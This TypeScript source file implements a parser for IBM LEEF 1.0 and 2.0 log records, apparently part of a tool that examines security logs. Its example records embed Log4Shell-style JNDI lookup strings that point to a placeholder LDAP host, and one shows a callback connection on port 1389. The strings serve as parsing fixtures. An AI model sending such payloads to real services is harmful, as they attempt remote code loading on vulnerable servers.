import { readAddress } from '../../core/index.ts'
import type { Outgoing } from '../outgoing.ts'
import { timeInPattern } from '../time/time-in-pattern.ts'
import { type Claim, Claims } from './claims.ts'
import { portOf } from './columns.ts'
import type { LogFormat } from './format.ts'
import { ipProtocol } from './ip-protocol.ts'
import { syslogHeader, toldTime } from './syslog-header.ts'

/**
 * IBM's Log Event Extended Format: `LEEF:1.0|vendor|product|version|event|` and names with values between tabs, or in 2.0
 * between the character that a sixth field names, as itself or in hexadecimal (`^`, `x5E`, `0x5E`). It has no escapes.
 *
 * @see https://www.ibm.com/docs/en/dsm?topic=overview-predefined-leef-event-attributes
 */
export const leef: LogFormat = {
  id: 'leef',
  summary: 'IBM LEEF 1.0 and 2.0, between tabs or its own separator, behind a header of syslog or none',
  definedBy: 'https://www.ibm.com/docs/en/dsm?topic=overview-leef-event-components',
  witnesses: ['LEEF:1.0|', 'LEEF: 1.0|', 'LEEF:2.0|', 'LEEF: 2.0|'],
  examples: {
    reads: [
      {
        record:
          'Dec 12 04:25:41 waf1 LEEF:1.0|Acme|WAF|2.1|Injection|devTime=Dec 12 2021 05:25:40 GMT+01:00\tdevTimeFormat=MMM dd yyyy HH:mm:ss z\tsev=8\tsrc=203.0.113.9\tsrcPort=52963\tdst=10.0.0.4\tdstPort=443\tproto=TCP\tmethod=GET\turl=/a?q=1\tuserAgent=${jndi:ldap://x.example/a}',
        when: '2021-12-12T04:25:40Z',
        from: '203.0.113.9',
        request: 'GET /a?q=1',
        userAgent: '${jndi:ldap://x.example/a}',
        saw: { is: 'connection', to: '10.0.0.4', name: null, port: 443, by: '203.0.113.9', protocol: 'tcp' },
      },
      {
        record:
          '<13>1 2021-12-10T12:43:13Z fw1 LEEF:2.0|Acme|Firewall|1.0|accept|x5E|src=10.0.0.5^srcPort=40000^dst=203.0.113.66^dstPort=1389^proto=6^devTime=10/12/2021 12:43:12^devTimeFormat=dd/MM/yyyy HH:mm:ss',
        when: '2021-12-10T12:43:12Z',
        from: '10.0.0.5',
        saw: { is: 'connection', to: '203.0.113.66', name: null, port: 1389, by: '10.0.0.5', protocol: 'tcp' },
      },
      {
        record:
          'LEEF:2.0|Acme|Portal|2.4|login|^|devTime=1639283140336^usrName=${jndi:ldap://x.example/a}^src=2001:db8::9',
        when: '2021-12-12T04:25:40.336Z',
        from: '2001:db8::9',
      },
      {
        record: 'LEEF:2.0|Acme|Portal|2.4|login|usrName=${jndi:ldap://x.example/a}\tsrc=203.0.113.9',
        from: '203.0.113.9',
      },
      { record: 'LEEF:1.0|Acme|Portal|2.4|login of ${jndi:ldap://x.example/a}|' },
    ],
    refuses: [
      'LEEF:1.0|Acme|Portal|2.4',
      'login of LEEF:1.0|a|b|c|d|src=192.0.2.1',
      'Dec 12 04:25:41 web1 app: LEEF:1.0|a|b|c|d|src=192.0.2.1',
    ],
  },
  read({ text }, { around }) {
    const header = syslogHeader(text, 'LEEF:')
    const prefix = header === null ? null : prefixOf(text, header.end)
    if (header === null || prefix === null) return null
    const claims = claimsOf(text.slice(prefix.end), prefix.separator)
    const said = new Claims(claims, isDevices, true)
    const from = addressOf(said.said('src'))
    const url = said.written('url', 'request', 'requestUrl')
    const method = said.written('method', 'requestMethod')
    const saw = sawOf(said, from)
    return {
      when: toldTime(header, [timeOf(said.sure('devTime'), said)], [timeOf(said.said('devTime'), said)], around),
      from,
      request: url === null || method === null ? url : `${method} ${url}`,
      userAgent: said.written('userAgent', 'requestClientApplication'),
      ...(saw === null ? {} : { saw }),
      fields: [
        ...prefix.values.map((value, index) => ({ name: prefixNames[index] ?? null, value })),
        ...claims.map(({ name, value }) => ({ name: name === '' ? 'attributes' : name, value })),
      ],
    }
  },
}

const prefixNames = ['vendor', 'product', 'version', 'event']

/** What stands between the first five bars, the separator, and where the attributes begin; a single letter separates nothing. */
function prefixOf(
  text: string,
  start: number,
): { readonly values: readonly string[]; readonly separator: string; readonly end: number } | null {
  const bars = /^LEEF: ?(\d\.\d)\|([^|]*)\|([^|]*)\|([^|]*)\|([^|]*)\|/.exec(text.slice(start))
  if (bars === null) return null
  const [whole, version, ...values] = bars
  const end = start + whole.length
  const [named, hex, itself] =
    version === '1.0' ? [] : (/^(?:0?x([\da-fA-F]{1,4})|([^\w\s|=]|\t)?)\|/.exec(text.slice(end, end + 8)) ?? [])
  const separator = hex === undefined ? (itself ?? '\t') : String.fromCharCode(Number.parseInt(hex, 16))
  return { values, separator, end: end + (named?.length ?? 0) }
}

/** More than any device writes; what follows is a part of the last. */
const mostClaims = 512

/** `rsyslog` writes a tab as `#011`, if it is not told otherwise. */
function claimsOf(text: string, separator: string): readonly Claim[] {
  const between = separator === '\t' && !text.includes('\t') ? '#011' : separator
  const claims: Claim[] = []
  for (let at = 0; at < text.length; ) {
    const next = claims.length + 1 < mostClaims ? text.indexOf(between, at) : -1
    const end = next < 0 ? text.length : next
    const piece = text.slice(at, end)
    const [whole, name] = /^\s?([\w][\w .-]{0,127})=/.exec(piece) ?? []
    if (piece !== '') claims.push({ name: name?.trim() ?? '', value: piece.slice(whole?.length ?? 0).trim() })
    at = end + between.length
  }
  return claims
}

/** Names whose values a device counts, measures or has been told by who runs it. All others may hold what a client wrote. */
const devices = new Set(
  'cat devTime devTimeFormat proto sev src dst srcPort dstPort srcPreNAT dstPreNAT srcPostNAT dstPostNAT srcPreNATPort dstPreNATPort srcPostNATPort dstPostNATPort srcMAC dstMAC vSrc srcBytes dstBytes srcPackets dstPackets totalPackets act action dvc dvchost deviceGUID method requestMethod'.split(
    ' ',
  ),
)

function isDevices(name: string): boolean {
  return devices.has(name)
}

/** Rewritten as ISO 8601 where a pattern says how to read it; a pattern that a client may have written decides nothing else. */
function timeOf(devTime: string | null, said: Claims): string | null {
  if (devTime === null) return null
  const sure = said.sure('devTimeFormat')
  if (sure !== null) return timeInPattern(devTime, sure) ?? devTime
  return /^(?:\d{4}-|\d{9,19}$|[A-Z][a-z]{2} )/.test(devTime)
    ? devTime
    : timeInPattern(devTime, said.said('devTimeFormat') ?? '')
}

/** Both ends have to be known: who connects is never what he connects to. */
function sawOf(said: Claims, by: string | null): Outgoing | null {
  const to = addressOf(said.said('dst'))
  if (by === null || to === null) return null
  const protocol = said.said('proto')
  return {
    is: 'connection',
    to,
    name: null,
    port: portOf(said.said('dstPort')),
    by,
    protocol: protocol !== null && /^[a-z]{2,12}$/i.test(protocol) ? protocol.toLowerCase() : ipProtocol(protocol),
  }
}

function addressOf(text: string | null): string | null {
  return text !== null && readAddress(text) !== null ? text : null
}
